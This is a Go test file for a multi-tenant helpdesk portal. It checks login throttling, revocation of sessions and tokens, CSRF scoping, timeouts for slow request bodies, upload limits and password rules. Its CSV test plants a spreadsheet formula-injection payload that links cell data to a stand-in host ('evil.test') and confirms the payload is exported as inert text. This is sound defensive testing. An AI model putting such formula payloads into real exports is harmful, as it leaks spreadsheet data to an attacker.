package portal_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"portaldesk/cmd/server/pdtest"
	"portaldesk/portal"
	"portaldesk/provisioner"
	"portaldesk/provisioner/ops"
)

// TestConcurrentSignInGuessesAreThrottled: sixty sign-ins at once from one
// address through real HTTP — on the page sixty wrong passwords, on the
// API the right one among them. Only the five free attempts of the account
// are checked (a right one among them clears the account, as its owner's
// sign-in does); every other answer is 429 with Retry-After, given before
// any password is looked at.
func TestConcurrentSignInGuessesAreThrottled(t *testing.T) {
	w := newWorld(t)
	e := w.e
	for _, api := range []bool{false, true} {
		email := "ca@alpha.test"
		if api {
			email = "cb@alpha.test"
		}
		codes := map[int]int{}
		var mu sync.Mutex
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := 0; i < 60; i++ {
			pw := "wrong-password"
			if i == 37 && api {
				pw = pdtest.Password // the page's run has sixty wrong ones
			}
			// Each browser has its form token before the burst, so the
			// sixty posts leave at once.
			b := pdtest.Browser()
			tok := regexp.MustCompile(`name="_csrf" value="([^"]+)"`).FindStringSubmatch(pdtest.Do(t, b, "GET", e.URL+"/alpha/login", nil).Body)[1]
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				var r pdtest.Resp
				if api {
					r = pdtest.Do(t, nil, "POST", e.URL+"/alpha/api/v1/login", map[string]string{"email": email, "password": pw})
				} else {
					r = pdtest.Do(t, b, "POST", e.URL+"/alpha/login", url.Values{"email": {email}, "password": {pw}, "_csrf": {tok}})
				}
				if r.Status == 429 && r.Header.Get("Retry-After") == "" {
					t.Error("429 without Retry-After")
				}
				mu.Lock()
				codes[r.Status]++
				mu.Unlock()
			}()
		}
		close(start)
		wg.Wait()
		// Only the five free guesses are checked. When the right one was
		// among them its owner got in, which clears the account: guesses
		// still arriving may then have five more, never another round.
		right := codes[200] + codes[303]
		if wrong := codes[401]; right == 0 && wrong != 5 || right == 1 && (wrong < 4 || wrong > 9) {
			t.Fatalf("api=%v: %d wrong guesses checked (answers %v)", api, wrong, codes)
		}
	}
}

// copyBrowser is a new browser holding the same cookies as c (a copied
// session cookie, as a thief would have it).
func copyBrowser(t *testing.T, c *http.Client, u string) *http.Client {
	t.Helper()
	b := pdtest.Browser()
	pu, _ := url.Parse(u)
	b.Jar.SetCookies(pu, c.Jar.Cookies(pu))
	return b
}

// TestSessionsAndTokensEnd: signing out ends that session for a copied
// cookie too; a password change ends every other session and every token
// (personal ones included) and says so; a reset ends them all; a
// deactivation ends everything, for good — reactivation brings nothing
// back.
func TestSessionsAndTokensEnd(t *testing.T) {
	w := newWorld(t)
	e := w.e
	base := e.URL + "/alpha"
	signedIn := func(c *http.Client) bool {
		t.Helper()
		return pdtest.Do(t, c, "GET", base+"/profile", nil).Status == 200
	}
	tokenWorks := func(tok string) bool {
		t.Helper()
		return w.api(t, tok, "GET", "/me", nil).Status == 200
	}

	// Logout ends the session, for the copy of its cookie too.
	a := e.SignIn(t, "alpha", "op@alpha.test")
	thief := copyBrowser(t, a, base+"/")
	if !signedIn(thief) {
		t.Fatal("the copied cookie does not work before logout")
	}
	pdtest.Do(t, a, "POST", base+"/logout", nil)
	if signedIn(thief) {
		t.Fatal("a copied session cookie still works after logout")
	}

	// A password change: this browser stays, the others and every token go.
	a, b := e.SignIn(t, "alpha", "op@alpha.test"), e.SignIn(t, "alpha", "op@alpha.test")
	personal := w.api(t, w.op, "POST", "/tokens", map[string]string{"name": "CRM"}).JSON(t)["token"].(string)
	login := e.Login(t, "alpha", "op@alpha.test")
	r := pdtest.Do(t, a, "POST", base+"/profile/password", url.Values{"current_password": {pdtest.Password}, "new_password": {"a-new-password-1"}, "new_password2": {"a-new-password-1"}})
	if r.Status != 303 || !strings.Contains(r.Header.Get("Location"), "API+tokens+no+longer+work") {
		t.Fatalf("password change: %d %s", r.Status, r.Header.Get("Location"))
	}
	if !signedIn(a) {
		t.Fatal("the browser that changed the password was signed out")
	}
	if signedIn(b) {
		t.Fatal("another session survived the password change")
	}
	for _, tok := range []string{personal, login, w.op} {
		if tokenWorks(tok) {
			t.Fatal("a token survived the password change")
		}
	}

	// A reset ends every session and token.
	personal = pdtest.Do(t, nil, "POST", base+"/api/v1/login", map[string]string{"email": "op@alpha.test", "password": "a-new-password-1"}).JSON(t)["token"].(string)
	e.Portal(t, "alpha", func(p *portal.Portal) {
		if err := p.RequestPasswordReset(context.Background(), "op@alpha.test", "10.9.9.9"); err != nil {
			t.Fatal(err)
		}
	})
	mails := e.Mails(t, "alpha")
	link := regexp.MustCompile(`reset\?token=(\S+)`).FindStringSubmatch(pdtest.Parse(t, mails[len(mails)-1]).Text)
	if r := w.api(t, "", "POST", "/password/reset", map[string]string{"token": link[1], "password": "a-newer-password-2"}); r.Status != 204 {
		t.Fatalf("reset: %d %s", r.Status, r.Body)
	}
	if signedIn(a) || tokenWorks(personal) {
		t.Fatal("a session or token survived the reset")
	}

	// Deactivation ends everything; reactivation brings nothing back.
	c := e.SignIn(t, "alpha", "ca@alpha.test")
	tok := e.Login(t, "alpha", "ca@alpha.test")
	var ca any
	for _, u := range w.api(t, w.admin, "GET", "/users?role=client", nil).JSON(t)["users"].([]any) {
		if u.(map[string]any)["email"] == "ca@alpha.test" {
			ca = u.(map[string]any)["id"]
		}
	}
	for _, active := range []bool{false, true} {
		if r := w.api(t, w.admin, "PATCH", fmt.Sprintf("/users/%v", ca), map[string]any{"active": active}); r.Status != 200 {
			t.Fatalf("active=%v: %d %s", active, r.Status, r.Body)
		}
		if signedIn(c) || tokenWorks(tok) || tokenWorks(w.ca) {
			t.Fatalf("active=%v: a session or token of the deactivated client works", active)
		}
	}
}

// TestOpsSessionsEnd: an ops person's copied cookie stops working when
// they sign out, and when their password is set again from the shell.
func TestOpsSessionsEnd(t *testing.T) {
	e := pdtest.New(t, provisioner.Config{})
	ctx := context.Background()
	root := e.AddOpsUser(t, "root@vendor.test", "ops-password-1")
	signIn := func() *http.Client {
		c := pdtest.Browser()
		if r := e.OpsSignIn(t, c, root); r.Status != 303 {
			t.Fatalf("ops login: %d", r.Status)
		}
		return c
	}
	in := func(c *http.Client) bool { return pdtest.Do(t, c, "GET", e.URL+"/ops", nil).Status == 200 }
	c := signIn()
	thief := copyBrowser(t, c, e.URL+"/ops")
	pdtest.Do(t, c, "POST", e.URL+"/ops/logout", nil)
	if in(thief) {
		t.Fatal("a copied ops cookie works after logout")
	}
	c = signIn()
	thief = copyBrowser(t, c, e.URL+"/ops")
	if _, err := ops.AddUser(ctx, e.Svc, "root@vendor.test", "Root", "ops-password-1"); err != nil {
		t.Fatal(err)
	}
	if in(thief) || in(c) {
		t.Fatal("an ops session survived a new password")
	}
}

// TestCSVCellsNeverRunInASpreadsheet: a client who names themself as a
// formula appears in the labour report's CSV as text.
func TestCSVCellsNeverRunInASpreadsheet(t *testing.T) {
	w := newInsightWorld(t)
	evil := `=HYPERLINK("http://evil.test/?"&A1,"Click")`
	if r := w.api(t, w.ca, "PUT", "/profile", map[string]any{"name": evil, "surname": ""}); r.Status != 200 {
		t.Fatalf("profile: %d %s", r.Status, r.Body)
	}
	n := w.ticket(t, w.ca)
	w.log(t, w.op, n, map[string]any{"work_type": "Consultation", "quantity": "1", "comment": "+1+2"})
	c := w.api(t, w.admin, "GET", "/reports/labour?from=2026-05-01&to=2026-05-04&format=csv&table=clients", nil)
	rows, err := csv.NewReader(strings.NewReader(c.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
			found = found || cell == "'"+evil
		}
	}
	if !found {
		t.Fatalf("the client's name is not in the CSV as text: %v", rows)
	}
}

// TestLiveStreamsAreCapped: one person opens more live pages than a
// browser needs: the streams beyond the cap are refused with 429, and a
// closed one makes room again.
func TestLiveStreamsAreCapped(t *testing.T) {
	w := newWorld(t)
	c := w.e.SignIn(t, "alpha", "op@alpha.test")
	var stops []func()
	for i := 0; i < 10; i++ {
		_, stop := listen(t, c, w.e.URL+"/alpha/events")
		stops = append(stops, stop)
	}
	r := pdtest.Do(t, c, "GET", w.e.URL+"/alpha/events", nil)
	if r.Status != 429 || r.Header.Get("Retry-After") == "" {
		t.Fatalf("the 11th stream: %d", r.Status)
	}
	stops[0]()
	time.Sleep(50 * time.Millisecond)
	_, stop := listen(t, c, w.e.URL+"/alpha/events")
	stop()
	for _, s := range stops[1:] {
		s()
	}
}

// TestSlowBodiesHoldNoPortal: clients send their bodies a byte at a
// time, one for each of twelve portals, with room for four open. None of
// the portals is opened while the bodies dribble in, and each request is
// cut off with 408 once its grace period is over.
func TestSlowBodiesHoldNoPortal(t *testing.T) {
	e := pdtest.New(t, provisioner.Config{OpenLimit: 4, BodyGrace: time.Second})
	var toks []string
	for i := 0; i < 12; i++ {
		slug := fmt.Sprintf("slow-%d", i)
		e.Create(t, slug)
		toks = append(toks, e.Login(t, slug, "admin@"+slug+".test"))
	}
	reg := e.Svc.Registry()
	opens := reg.ColdOpens.Load()
	addr := strings.TrimPrefix(e.URL, "http://")
	answers := make(chan string, 12)
	for i, tok := range toks {
		go func() {
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				answers <- err.Error()
				return
			}
			defer conn.Close()
			fmt.Fprintf(conn, "POST /slow-%d/api/v1/tickets HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n", i, addr, tok)
			go func() {
				for k := 0; k < 100; k++ {
					if _, err := conn.Write([]byte(" ")); err != nil {
						return
					}
					time.Sleep(200 * time.Millisecond)
				}
			}()
			conn.SetReadDeadline(time.Now().Add(10 * time.Second))
			line, err := bufio.NewReader(conn).ReadString('\n')
			if err != nil {
				answers <- err.Error()
				return
			}
			answers <- strings.TrimSpace(line)
		}()
	}
	time.Sleep(500 * time.Millisecond)
	if n := reg.ColdOpens.Load() - opens; n != 0 {
		t.Fatalf("%d portals were opened for bodies still arriving", n)
	}
	for i := 0; i < 12; i++ {
		if a := <-answers; a != "HTTP/1.1 408 Request Timeout" {
			t.Errorf("a dribbling body was answered %q", a)
		}
	}
	if n := reg.ColdOpens.Load() - opens; n != 0 {
		t.Fatalf("%d portals were opened for requests that never arrived whole", n)
	}
}

// TestFormsPostOnlyFromTheirOwnPlace: a browser signed in to alpha posts
// a reply to alpha's ticket with no token, with the token of beta's
// pages (another portal of the same origin), and with alpha's own. Only
// the last is taken; the refused ones changed nothing. The ops console
// and the signup form refuse a post without their own token too.
func TestFormsPostOnlyFromTheirOwnPlace(t *testing.T) {
	w := newWorld(t)
	c := w.e.SignIn(t, "alpha", "ca@alpha.test")
	u := fmt.Sprintf("%s/alpha/tickets/%d/messages", w.e.URL, w.ticket)
	msgs := func() int {
		r := w.api(t, w.ca, "GET", fmt.Sprintf("/tickets/%d/messages", w.ticket), nil)
		return len(r.JSON(t)["messages"].([]any))
	}
	before := msgs()
	beta := pdtest.Do(t, c, "GET", w.e.URL+"/beta/forgot", nil)
	m := regexp.MustCompile(`name="_csrf" value="([^"]+)"`).FindStringSubmatch(beta.Body)
	if m == nil {
		t.Fatal("beta's page has no form token")
	}
	for name, tok := range map[string]string{"none": "", "beta's": m[1], "made up": strings.Repeat("A", 24)} {
		r := pdtest.Do(t, c, "POST", u, url.Values{"body": {"Posted from elsewhere"}, "_csrf": {tok}})
		if r.Status != http.StatusForbidden || !strings.Contains(r.Body, "reload the page") {
			t.Errorf("a reply with %s token: %d", name, r.Status)
		}
	}
	if n := msgs(); n != before {
		t.Fatalf("refused posts added %d messages", n-before)
	}
	if r := pdtest.Do(t, c, "POST", u, url.Values{"body": {"Posted from alpha"}}); r.Status != http.StatusSeeOther {
		t.Fatalf("a reply with alpha's own token: %d %s", r.Status, r.Body)
	}
	if n := msgs(); n != before+1 {
		t.Fatalf("the reply with alpha's token: %d messages added", n-before)
	}
	// The same browser, its token for the portal, posting to the console
	// and to the signup form.
	for _, p := range []string{"/ops/login", "/signup"} {
		r := pdtest.Do(t, c, "POST", w.e.URL+p, url.Values{"email": {"x@y.test"}, "_csrf": {""}})
		if r.Status != http.StatusForbidden {
			t.Errorf("POST %s without its token: %d", p, r.Status)
		}
	}
}

// TestARefusedUploadKeepsNothing: uploads of several files that break a
// limit with their last file — through the API, with a reply, and with a
// new ticket — are refused whole: no file on disk (staged ones included),
// no message, no ticket. The same files within the limits are kept.
func TestARefusedUploadKeepsNothing(t *testing.T) {
	w := newWorld(t)
	if r := w.api(t, w.admin, "PUT", "/settings", map[string]any{"max_files": 3, "max_file_mb": 0.1}); r.Status != 200 {
		t.Fatalf("settings: %d %s", r.Status, r.Body)
	}
	c := w.e.SignIn(t, "alpha", "ca@alpha.test")
	files := func(sizes ...int) []pdtest.File {
		var out []pdtest.File
		for i, n := range sizes {
			out = append(out, pdtest.File{Name: fmt.Sprintf("part-%d.txt", i), Data: []byte(strings.Repeat("x", n))})
		}
		return out
	}
	onDisk := func() int {
		n := 0
		filepath.Walk(filepath.Join(w.e.Dir, "portals", "alpha"), func(p string, fi os.FileInfo, err error) error {
			if err == nil && !fi.IsDir() && strings.Contains(p, string(filepath.Separator)+"files"+string(filepath.Separator)) {
				n++
			}
			return nil
		})
		return n
	}
	state := func() string {
		tl := w.api(t, w.op, "GET", fmt.Sprintf("/tickets/%d/messages", w.ticket), nil).JSON(t)["messages"].([]any)
		list := w.api(t, w.op, "GET", "/tickets", nil).JSON(t)
		return fmt.Sprintf("%d files, %d entries, %v tickets", onDisk(), len(tl), list["total"])
	}
	before := state()
	attach := fmt.Sprintf("/tickets/%d/attachments", w.ticket)
	reply := fmt.Sprintf("%s/alpha/tickets/%d/messages", w.e.URL, w.ticket)
	for _, tc := range []struct {
		name   string
		status int
		send   func() pdtest.Resp
	}{
		{"API, four files of three", 422, func() pdtest.Resp {
			return w.api(t, w.ca, "POST", attach, pdtest.Multipart{Files: map[string][]pdtest.File{"file": files(10, 10, 10, 10)}})
		}},
		{"API, the last file too large", 413, func() pdtest.Resp {
			return w.api(t, w.ca, "POST", attach, pdtest.Multipart{Files: map[string][]pdtest.File{"file": files(10, 10, 200<<10)}})
		}},
		{"a reply, the last file too large", 413, func() pdtest.Resp {
			return pdtest.Do(t, c, "POST", reply, pdtest.Multipart{Fields: map[string]string{"body": "See the files"}, Files: map[string][]pdtest.File{"files": files(10, 10, 200<<10)}})
		}},
		{"a new ticket, four files", 422, func() pdtest.Resp {
			return pdtest.Do(t, c, "POST", w.e.URL+"/alpha/tickets", pdtest.Multipart{Fields: map[string]string{"subject": "With files", "description": "Four of them"}, Files: map[string][]pdtest.File{"files": files(10, 10, 10, 10)}})
		}},
	} {
		if r := tc.send(); r.Status != tc.status {
			t.Errorf("%s: %d, want %d: %.300s", tc.name, r.Status, tc.status, r.Body)
		}
		if now := state(); now != before {
			t.Fatalf("%s: before %s, after %s", tc.name, before, now)
		}
	}
	// Within the limits: a reply with two files, then two more of which
	// the ticket has room for one.
	if r := pdtest.Do(t, c, "POST", reply, pdtest.Multipart{Fields: map[string]string{"body": "Two files"}, Files: map[string][]pdtest.File{"files": files(10, 20)}}); r.Status != http.StatusSeeOther {
		t.Fatalf("a reply with two files: %d %.300s", r.Status, r.Body)
	}
	if n := onDisk(); n != 2 {
		t.Fatalf("%d files kept, want 2", n)
	}
	if r := w.api(t, w.ca, "POST", attach, pdtest.Multipart{Files: map[string][]pdtest.File{"file": files(10, 10)}}); r.Status != 422 {
		t.Fatalf("two files with room for one: %d", r.Status)
	}
	if n := onDisk(); n != 2 {
		t.Fatalf("%d files kept, want 2", n)
	}
}

// TestCommonPasswordsAreRefused: short passwords, the common ones however
// dressed up, keyboard rows and repeats, and one's own name are refused
// with a reason; a password of a few uncommon words is taken. The
// profile's form says it at the field.
func TestCommonPasswordsAreRefused(t *testing.T) {
	for pw, want := range map[string]string{
		"short-1":          "at least 10",
		"password123":      "most common",
		"Password123":      "most common",
		"qwertyuiop":       "*",
		"1234567890":       "*",
		"aaaaaaaaaaaa":     "easy to guess",
		"oleg.petrov@x.ru": "your name or email",
		"amber-lantern-57": "",
		"Тихий-омут-черти": "",
	} {
		got := portal.ValidatePassword(pw, "oleg.petrov@x.ru", "Oleg")
		switch {
		case want == "*" && got != "": // refused: as common or as guessable
		case want == "" && got == "", want != "" && strings.Contains(got, want):
		default:
			t.Errorf("%q: %q, want %q", pw, got, want)
		}
	}
	w := newWorld(t)
	c := w.e.SignIn(t, "alpha", "ca@alpha.test")
	r := pdtest.Do(t, c, "POST", w.e.URL+"/alpha/profile/password", url.Values{"current_password": {pdtest.Password}, "new_password": {"password123"}, "new_password2": {"password123"}})
	if r.Status != 422 || !strings.Contains(r.Body, "one of the most common ones") {
		t.Fatalf("a common password in the profile: %d", r.Status)
	}
}

// TestSessionsPageEndsOthers: the profile lists where one is signed in —
// the browser, the address, when — this browser first; one other can be
// signed out by its line, and all others at once.
func TestSessionsPageEndsOthers(t *testing.T) {
	w := newWorld(t)
	base := w.e.URL + "/alpha"
	signIn := func(agent string) *http.Client {
		c := pdtest.Browser()
		r := pdtest.Do(t, c, "POST", base+"/login", url.Values{"email": {"op@alpha.test"}, "password": {pdtest.Password}}, "User-Agent", agent)
		if r.Status != http.StatusSeeOther {
			t.Fatalf("sign in: %d", r.Status)
		}
		return c
	}
	me := signIn("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0")
	phone := signIn("Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Mobile Safari/537.36")
	laptop := signIn("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 YaBrowser/24.12 Safari/537.36")
	page := pdtest.Do(t, me, "GET", base+"/profile", nil).Body
	i, j, k := strings.Index(page, "Firefox · Linux"), strings.Index(page, "Chrome · Android"), strings.Index(page, "Yandex Browser · Windows")
	if i < 0 || j < 0 || k < 0 || i > j || i > k || !strings.Contains(page, "this browser") || !strings.Contains(page, "127.0.0.1") {
		t.Fatalf("the sessions listed: %d %d %d", i, j, k)
	}
	ids := regexp.MustCompile(`/profile/sessions/([0-9a-f]{12})/end`).FindAllStringSubmatch(page, -1)
	if len(ids) != 2 {
		t.Fatalf("%d sessions to end, want 2", len(ids))
	}
	// Another person cannot end them.
	other := w.e.SignIn(t, "alpha", "ca@alpha.test")
	pdtest.Do(t, other, "POST", base+"/profile/sessions/"+ids[0][1]+"/end", nil)
	alive := func(c *http.Client) bool { return pdtest.Do(t, c, "GET", base+"/profile", nil).Status == 200 }
	if !alive(phone) || !alive(laptop) {
		t.Fatal("someone else ended the operator's session")
	}
	if r := pdtest.Do(t, me, "POST", base+"/profile/sessions/"+ids[0][1]+"/end", nil); r.Status != http.StatusSeeOther {
		t.Fatalf("end one: %d", r.Status)
	}
	if alive(phone) == alive(laptop) {
		t.Fatal("ending one session did not end exactly one")
	}
	if r := pdtest.Do(t, me, "POST", base+"/profile/sessions/others/end", nil); r.Status != http.StatusSeeOther {
		t.Fatalf("end others: %d", r.Status)
	}
	if alive(phone) || alive(laptop) || !alive(me) {
		t.Fatal("'everywhere else' did not leave exactly this browser")
	}
}
